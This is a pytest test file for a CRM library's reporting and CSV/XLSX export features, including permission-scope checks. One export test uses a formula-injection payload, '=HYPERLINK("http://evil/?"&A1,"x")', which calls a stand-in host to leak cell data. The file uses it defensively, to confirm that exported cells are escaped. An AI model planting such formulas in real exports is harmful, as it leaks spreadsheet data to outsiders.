"""crm.reports on every backend: per employee, per product, payments, customers and rankings
for the dashboard's subjects and periods — only approved money, never beyond the viewer's
scope — and their export through the sheet writers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from crmkit.errors import PermissionDenied, ValidationError

from .conftest import Org


def _contract(org: Org, customer: str, lines: list[dict[str, str]], *,
              submit: bool = True) -> str:
    return str(org.crm.contracts.create(org.rep, {"name": "合同", "customer_id": customer,
                                                  "lines": lines}, submit=submit).id)


def test_the_employee_report_counts_rates_and_only_approved_money(org: Org) -> None:
    crm = org.crm
    customer = crm.customers.create(org.rep, {"name": "华为"}).id
    leads = [crm.leads.create(org.rep, {"name": f"线索{n}"}).id for n in range(4)]
    crm.leads.convert(org.rep, leads[:1])
    group = crm.opportunities.add_stage_group(org.admin, {"name": "流程", "stages": [
        {"name": "接洽", "win_rate": "10"}]})
    deals = [crm.opportunities.create(org.rep, {"name": "项目", "customer_id": customer,
                                                "stage_group_id": group.id}).id
             for _ in range(3)]
    crm.opportunities.win(org.rep, deals[0])
    crm.opportunities.lose(org.rep, deals[1], "预算")
    crm.opportunities.lose(org.rep, deals[2], "预算")
    crm.contracts.create(org.rep, {"name": "合同", "customer_id": customer, "amount": "900"},
                         submit=True)
    crm.contracts.create(org.rep, {"name": "草稿", "customer_id": customer, "amount": "5"})
    methods = crm.followups.methods(org.admin)
    crm.followups.set_methods(org.admin, [*methods, "微信"])
    crm.followups.add(org.rep, "customer", customer, {"method": "微信", "content": "聊"})
    crm.followups.set_methods(org.admin, methods)  # 微信 retired: its history still counts
    report = crm.reports.employees(org.manager, {"subordinates": True})
    mine = dict(zip([c.key for c in report.columns],
                    report.rows[report.keys.index(org.rep.id)], strict=True))
    assert (mine["leads"], mine["converted_leads"], mine["conversion_rate"]) == (
        4, 1, Decimal("25.00"))
    assert (mine["won"], mine["lost"], mine["win_rate"]) == (1, 2, Decimal("33.33"))
    assert (mine["contracts"], mine["contract_amount"]) == (1, Decimal("900.00"))
    assert mine["new_customers"] == 2  # 华为 and the converted lead's customer
    assert mine["followups:微信"] == 1  # a method no longer configured keeps its column
    assert report.total("win_rate") == Decimal("33.33")
    assert report.total("conversion_rate") == Decimal("25.00")
    with pytest.raises(PermissionDenied) as refused:
        crm.reports.employees(org.rep, {"department_ids": [org.sales.id]})
    assert refused.value.code == "dashboard.subject_beyond_scope"


def test_products_sold_per_product_and_category_over_the_buckets(org: Org) -> None:
    crm = org.crm
    kind = crm.products.add_category(org.admin, {"name": "软件"})
    soft = crm.products.create(org.admin, {"name": "软件A", "code": "A", "price": "10",
                                           "category_id": kind.id})
    other = crm.products.create(org.admin, {"name": "软件B", "code": "B", "price": "2.5",
                                            "category_id": kind.id})
    customer = crm.customers.create(org.rep, {"name": "华为"}).id
    _contract(org, customer, [{"product_id": soft.id, "quantity": "1.5"},
                              {"product_id": other.id, "quantity": "4", "discount": "50"}])
    _contract(org, customer, [{"product_id": soft.id, "quantity": "2"}])
    _contract(org, customer, [{"product_id": soft.id, "quantity": "100"}], submit=False)
    report = crm.reports.products(org.rep, period="this_month")
    assert report.keys == (soft.id, other.id)
    assert report.column("quantity") == [Decimal("3.5"), Decimal("4")]
    assert report.column("amount") == [Decimal("35.00"), Decimal("5.00")]
    assert len(report.categories) == 30 and report.series[0].values[1] == Decimal("35.00")
    per_category = crm.reports.products(org.rep, period="this_month", by="category")
    assert (per_category.keys, per_category.rows[0][:3]) == (
        (kind.id,), ("软件", Decimal("7.5"), Decimal("40.00")))
    with pytest.raises(ValidationError):
        crm.reports.products(org.rep, by="colour")


def test_payments_planned_received_and_overdue(org: Org) -> None:
    crm = org.crm
    customer = crm.customers.create(org.rep, {"name": "华为"}).id
    contract = crm.contracts.create(org.rep, {"name": "合同", "customer_id": customer,
                                              "amount": "1000"}, submit=True).id
    done, late, _later = crm.contracts.add_plans(org.rep, contract, [
        {"amount": "300", "planned_date": "2026-10-20"},
        {"amount": "300", "planned_date": "2026-11-01"},
        {"amount": "400", "planned_date": "2026-11-20"}])
    for plan, amount in ((done.id, "300"), (late.id, "100")):
        crm.payments.create(org.rep, {"contract_id": contract, "plan_id": plan,
                                      "paid_on": "2026-11-02", "amount": amount}, submit=True)
    report = crm.reports.payments(org.rep, period="this_year", granularity="month")
    october, november = report.rows[9], report.rows[10]
    assert october[3:] == (Decimal("300.00"), Decimal("0.00"), Decimal("0.00"))
    assert november[3:] == (Decimal("700.00"), Decimal("400.00"), Decimal("200.00"))
    assert report.totals[3:] == (Decimal("1000.00"), Decimal("400.00"), Decimal("200.00"))
    assert [s.key for s in report.series] == ["planned", "received", "overdue"]


def test_customers_by_region_and_level(org: Org) -> None:
    for name, address, level in (("甲", "广东省广州市", "A"), ("乙", "广东深圳", "A"),
                                 ("丙", "深圳市", None), ("丁", "内蒙古包头", "B")):
        org.crm.customers.create(org.rep, {"name": name, "address": address, "level": level})
    regions = org.crm.reports.customers(org.rep, "region")
    assert list(zip(regions.keys, regions.column("customers"), strict=True)) == [
        ("广东", 2), ("内蒙古", 1), (None, 1)]
    assert regions.total("share") == Decimal("100.00")
    levels = org.crm.reports.customers(org.rep, "level")
    assert levels.column("share") == [Decimal("50.00"), Decimal("25.00"), Decimal("25.00")]
    with pytest.raises(ValidationError):
        org.crm.reports.customers(org.rep, "colour")


def test_the_ranking_report_is_the_dashboard_ranking(org: Org) -> None:
    org.crm.customers.create(org.rep, {"name": "华为"})
    ranked = org.crm.reports.ranking(org.manager, "new_customers", {"subordinates": True})
    dashboard = org.crm.dashboard.ranking(org.manager, "new_customers", {"subordinates": True})
    assert ranked.keys == tuple(r.user_id for r in dashboard)
    assert ranked.column("place") == [r.place for r in dashboard]


def test_export_writes_header_rows_and_totals(org: Org) -> None:
    org.crm.customers.create(org.rep, {"name": "华为", "source": "广告"})
    report = org.crm.reports.customers(org.rep, "source")
    out = io.BytesIO()
    assert org.crm.reports.export(org.rep, report, out) == 3
    lines = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert lines == [["客户来源", "客户数", "占比(%)"], ["广告", "1", "100.00"],
                     ["合计", "1", "100.00"]]
    with pytest.raises(ValidationError):
        org.crm.reports.export(org.rep, report, io.BytesIO(), format="pdf")
    pytest.importorskip("openpyxl")
    sheet = io.BytesIO()
    assert org.crm.reports.export(org.rep, report, sheet, format="xlsx", language="en") == 3
    assert sheet.getvalue().startswith(b"PK")


def test_export_writes_text_a_spreadsheet_would_run_as_text(org: Org) -> None:
    crm = org.crm
    evil = '=HYPERLINK("http://evil/?"&A1,"x")'
    product = crm.products.create(org.admin, {"name": evil, "code": "E", "price": "10"})
    customer = crm.customers.create(org.rep, {"name": "华为"}).id
    _contract(org, customer, [{"product_id": product.id, "quantity": "1"}])
    org.user("13900000021", "-1+1", org.group, "sales_rep", supervisor_id=org.manager.id)
    report = crm.reports.products(org.rep, period="this_month")
    out = io.BytesIO()
    crm.reports.export(org.rep, report, out, format="csv")
    lines = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert lines[1][0] == "'" + evil
    assert not [c for line in lines for c in line if c[:1] in ("=", "+", "-", "@")]
    ranked = crm.reports.ranking(org.manager, "new_customers", {"subordinates": True})
    out = io.BytesIO()
    crm.reports.export(org.manager, ranked, out)
    assert ["'-1+1", "2", "0"] in list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    openpyxl = pytest.importorskip("openpyxl")
    sheet = io.BytesIO()
    crm.reports.export(org.rep, report, sheet, format="xlsx")
    page = openpyxl.load_workbook(io.BytesIO(sheet.getvalue())).active
    assert (page["A2"].value, page["A2"].data_type) == ("'" + evil, "s")


def test_export_keeps_a_negative_number_a_number() -> None:
    from crmkit.policies.cells import table_text
    assert [table_text(c) for c in (None, -5, Decimal("-1.50"), "-5", "华为")] == [
        "", "-5", "-1.50", "'-5", "华为"]


@pytest.mark.parametrize("which", ["payments", "products"])
def test_a_report_over_too_many_buckets_is_refused(org: Org, which: str) -> None:
    report = getattr(org.crm.reports, which)
    decade = {"period": "custom", "start": date(2016, 11, 5), "end": date(2026, 11, 1)}
    with pytest.raises(ValidationError) as refused:
        report(org.rep, granularity="day", **decade)
    assert refused.value.codes == {"$.granularity": "period.too_many_buckets"}
    assert len(report(org.rep, granularity="month", **decade).categories) == 121
    year = {"period": "custom", "start": date(2024, 1, 1), "end": date(2024, 12, 31)}
    assert len(report(org.rep, granularity="day", **year).categories) == 366
